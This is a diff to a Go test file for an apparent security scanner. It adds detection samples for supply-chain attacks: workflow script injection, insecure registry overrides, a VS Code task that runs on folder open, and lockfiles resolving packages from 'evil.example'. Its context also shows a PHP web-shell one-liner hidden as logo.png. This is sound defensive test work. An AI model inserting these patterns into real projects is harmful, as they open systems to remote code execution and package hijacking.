@@ -127,6 +127,20 @@ var samples = []sample{
 	{"obfuscation-typosquat", "package.json", `{"dependencies": {"crossenv": "1"}}`},
 	{"!obfuscation-typosquat", "package.json", `{"dependencies": {"express": "4", "preact": "10"}}`},
 
+	{"supply-chain-workflow-injection", ".github/workflows/a.yml", "on: issues\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.issue.title }}\n"},
+	{"supply-chain-workflow-injection", ".github/workflows/a.yml", "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci\n"},
+	{"!supply-chain-workflow-injection", ".github/workflows/a.yml", "on: issues\njobs:\n  a:\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"$TITLE\" ${{ github.sha }}\n"},
+	{"!supply-chain-workflow-injection", ".github/workflows/a.yml", "on: [push]\njobs:\n  a:\n    steps:\n      - run: |\n          make\n      - if: github.event.issue.title\n        name: ${{ github.event.issue.title }}\n"},
+	{"supply-chain-registry-override", ".npmrc", "registry=http://registry.example/\n"},
+	{"supply-chain-registry-override", ".npmrc", "strict-ssl=false\n"},
+	{"supply-chain-registry-override", "pip.conf", "[global]\ntrusted-host = pypi.example\n"},
+	{"!supply-chain-registry-override", ".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n"},
+	{"supply-chain-editor-task", ".vscode/tasks.json", `{"tasks": [{"command": "node x.js", "runOptions": {"runOn": "folderOpen"}}]}`},
+	{"!supply-chain-editor-task", ".vscode/tasks.json", `{"tasks": [{"command": "make"}]}`},
+	{"supply-chain-lockfile", "package-lock.json", `{"packages": {"node_modules/x": {"version": "1.0.0", "resolved": "http://evil.example/x.tgz", "integrity": "sha512-x"}}}`},
+	{"supply-chain-lockfile", "yarn.lock", "x@^1:\n  version \"1.0.0\"\n  resolved \"git+ssh://git@host.example/x.git#abc\"\n"},
+	{"!supply-chain-lockfile", "package-lock.json", `{"packages": {"node_modules/x": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/x/-/x-1.0.0.tgz", "integrity": "sha512-x"}}}`},
+
 	{"obfuscation-polyglot", "logo.png", "<?php system($_GET['c']);\n"},
 	{"obfuscation-polyglot", "logo.gif", "GIF89a/*" + strings.Repeat("x", 20) + "*/=1;alert(1)\n"},
 	{"obfuscation-polyglot", "notes.txt", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00"},
@@ -220,8 +234,16 @@ func TestSamples(t *testing.T) {
 
 // TestCatalogue: the ids are those of the reference system, and every row says all that explain shows.
 func TestCatalogue(t *testing.T) {
-	if n := len(Catalogue()); n != 47 {
-		t.Errorf("%d rules, expected 47", n)
+	for family, n := range map[string]int{"cred": 11, "obfuscation": 30, "ai-toolchain": 5, "supply-chain": 5} {
+		have := 0
+		for _, r := range Catalogue() {
+			if strings.HasPrefix(r.ID, family+"-") {
+				have++
+			}
+		}
+		if have != n {
+			t.Errorf("%s: %d rules, expected %d", family, have, n)
+		}
 	}
 	seen := map[string]bool{}
 	for _, r := range Catalogue() {
